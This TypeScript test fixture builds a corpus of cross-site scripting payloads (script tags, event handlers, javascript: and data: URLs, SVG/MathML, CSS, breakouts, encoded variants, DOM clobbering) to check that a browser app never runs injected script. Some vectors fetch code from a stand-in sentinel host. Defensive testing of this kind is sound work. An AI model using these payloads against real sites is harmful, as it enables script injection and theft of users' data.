/**
 * The XSS corpus of test/hardening/browser-xss.test.ts: a committed list of vectors in the style of
 * the OWASP XSS Filter Evasion Cheat Sheet (script tags, event handlers, `javascript:`/`data:` URLs,
 * SVG/MathML, attribute and element breakouts, template and Lit-marker lookalikes, CSS
 * `expression`/`url(javascript:)`, encoded and unicode variants, `srcdoc`/`<iframe>`, DOM
 * clobbering), expanded by combinators into distinct payloads.
 *
 * In each vector `JS` is replaced with a call that reports the payload's number if it ever runs:
 * `__xss(N)` (a page sentinel) or `alert(N)` (overridden to report too), and `N` alone with the
 * number (sentinel-host URLs: any request to xss.sentinel.test is counted and aborted).
 */

export const SENTINEL_HOST = 'xss.sentinel.test';

const VECTORS: readonly string[] = [
  // Script elements
  '<script>JS</script>',
  '<SCRIPT SRC=http://xss.sentinel.test/N.js></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.sentinel.test/N.js"></SCRIPT>',
  '<scr<script>ipt>JS</scr</script>ipt>',
  '<<SCRIPT>JS//<</SCRIPT>',
  '<IMG """><SCRIPT>JS</SCRIPT>">',
  '</script><script>JS</script>',
  '<script>/*</script><img src=x onerror=JS>*/</script>',
  // Event handlers
  '<img src=x onerror=JS>',
  '<img/src=x/onerror=JS>',
  '<img\tsrc=x\tonerror=JS>',
  '<img src=x onerror\n=JS>',
  '<img src=x:x onerror=JS//',
  '<img src=# onmouseover="JS">',
  '<img src=/ onerror="JS"></img>',
  '<img src=x onerror=&#x5f;&#x5f;xss(N)>',
  '<svg onload=JS>',
  '<svg/onload=JS//',
  '<body onload=JS>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|]^`=JS>',
  '<details open ontoggle=JS>',
  '<input autofocus onfocus=JS>',
  '<select autofocus onfocus=JS></select>',
  '<textarea autofocus onfocus=JS></textarea>',
  '<video><source onerror="JS"></video>',
  '<audio src=x onerror=JS>',
  '<marquee onstart=JS>x</marquee>',
  '<x onclick=JS>click me',
  '<isindex type=image src=1 onerror=JS>',
  '<image src=x onerror=JS>',
  '<object data=x onerror=JS>',
  '<style onload=JS></style>',
  '<iframe onload=JS></iframe>',
  '<div onpointerover=JS style=position:fixed;inset:0>',
  // URLs that run script
  '<IMG SRC="javascript:JS;">',
  '<IMG SRC=javascript:JS>',
  '<IMG SRC=JaVaScRiPt:JS>',
  '<IMG SRC=`javascript:JS`>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;JS>',
  '<IMG SRC="jav&#x09;ascript:JS;">',
  '<IMG SRC=" &#14;  javascript:JS;">',
  '<a href="javascript:JS">click</a>',
  '<a href=" javascript:JS">click</a>',
  '<a href="jAvAsCrIpT&colon;JS">click</a>',
  '<iframe src="javascript:JS"></iframe>',
  '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
  '<iframe src=http://xss.sentinel.test/N></iframe>',
  '<object data="javascript:JS"></object>',
  '<embed src="javascript:JS">',
  '<form action="javascript:JS"><button>go</button></form>',
  '<button formaction="javascript:JS">go</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:JS">',
  '<base href="http://xss.sentinel.test/N/">',
  '<img srcset="http://xss.sentinel.test/N.png 1x">',
  '<table background="javascript:JS">',
  'javascript:JS',
  'JaVaScRiPt:JS',
  ' javascript:JS',
  'javascript&colon;JS',
  'javascript:/*--></title></style></textarea></script><svg/onload=JS//',
  'data:text/html,<script>JS</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=JS>',
  'vbscript:msgbox(N)',
  // SVG and MathML
  '<svg><script>JS</script></svg>',
  '<svg><animate onbegin=JS attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:JS"><text x=9 y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=JS>#x">',
  '<svg><style><img src=x onerror=JS></style></svg>',
  '<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=JS>',
  '<math><a xlink:href=javascript:JS>x</a></math>',
  '<math href="javascript:JS">x</math>',
  // CSS
  '<div style="background:url(javascript:JS)">x</div>',
  '<div style="width:expression(JS)">x</div>',
  '<style>@import "http://xss.sentinel.test/N.css";</style>',
  '<link rel=stylesheet href=http://xss.sentinel.test/N.css>',
  '<style>*{background:url(http://xss.sentinel.test/N.png)}</style>',
  'expression(JS)',
  'url(javascript:JS)',
  '</style><img src=x onerror=JS>',
  // Attribute and element breakouts
  '"><script>JS</script>',
  "'><img src=x onerror=JS>",
  '" onmouseover="JS" x="',
  "' onfocus='JS' autofocus='",
  '" autofocus onfocus="JS',
  '`><img src=x onerror=JS>',
  '</textarea><script>JS</script>',
  '</title><script>JS</script>',
  '</option></select><img src=x onerror=JS>',
  '</label><img src=x onerror=JS>',
  '</dialog><img src=x onerror=JS>',
  '--><img src=x onerror=JS>',
  '<!--<img src="--><img src=x onerror=JS//">',
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
  '<template><img src=x onerror=JS></template>',
  '<slot name=x onclick=JS>x</slot>',
  '"-JS-"',
  "';JS;//",
  '\\";JS;//',
  // Template and Lit-marker lookalikes
  "{{constructor.constructor('JS')()}}",
  '{{7*7}}<img src=x onerror=JS>',
  '${JS}',
  '#{JS}',
  '<%= JS %>',
  '<!--?lit$123$--><img src=x onerror=JS>',
  'lit$123$<img src=x onerror=JS>',
  '<?lit$0$>JS',
  '<!--?lit$0$-->',
  '[[JS]]',
  // Encoded and unicode variants
  '&lt;script&gt;JS&lt;/script&gt;',
  '%3Cscript%3EJS%3C%2Fscript%3E',
  '\\u003cimg src=x onerror=JS\\u003e',
  '\\x3cscript\\x3eJS\\x3c/script\\x3e',
  '\uff1cscript\uff1eJS\uff1c/script\uff1e',
  '\u202e<img src=x onerror=JS>',
  '\u0000<script>JS</script>',
  '<scr\u0000ipt>JS</scr\u0000ipt>',
  '+ADw-script+AD4-JS+ADw-/script+AD4-',
  // DOM clobbering
  '<img id=__proto__ name=__proto__ src=x onerror=JS>',
  '<form id=Alloy><input name=install></form>',
  '<a id=__xss name=__xss href=x>x</a>',
  '<img name=getElementById><img name=body>',
  '<form name=constructor><input name=prototype></form>',
  '<iframe name=Alloy></iframe>',
];

/** Lower/upper case alternation of tag and attribute names, the classic filter evasion. */
function mixedCase(vector: string): string {
  return vector.replace(/<\/?[a-z]+|\bon[a-z]+=|javascript:/gi, (token) =>
    [...token].map((c, i) => (i % 2 === 1 ? c.toUpperCase() : c.toLowerCase())).join(''),
  );
}

export interface Payload {
  id: number;
  text: string;
}

/** Longest payload: the ISV brand name (`appearance.brandName`) allows 100 characters. */
export const MAX_PAYLOAD_LENGTH = 100;

/**
 * Every vector, each with three combinators: as written with the `__xss` sentinel, with `alert`
 * (overridden to report), and in mixed case. Duplicates and payloads over 100 characters are
 * dropped; numbering is stable for a given list.
 */
export function xssCorpus(): Payload[] {
  const seen = new Set<string>();
  const payloads: Payload[] = [];
  const add = (template: string, call: (id: number) => string) => {
    const id = payloads.length;
    const text = template.replace(/\bJS\b/g, call(id)).replace(/\bN\b/g, String(id));
    if (text.length > MAX_PAYLOAD_LENGTH || seen.has(text)) return;
    seen.add(text);
    payloads.push({ id, text });
  };
  for (const vector of VECTORS) {
    add(vector, (id) => `__xss(${id})`);
    if (vector.includes('JS')) add(vector, (id) => `alert(${id})`);
    const mixed = mixedCase(vector);
    if (mixed !== vector) add(mixed, (id) => `__xss(${id})`);
  }
  return payloads;
}
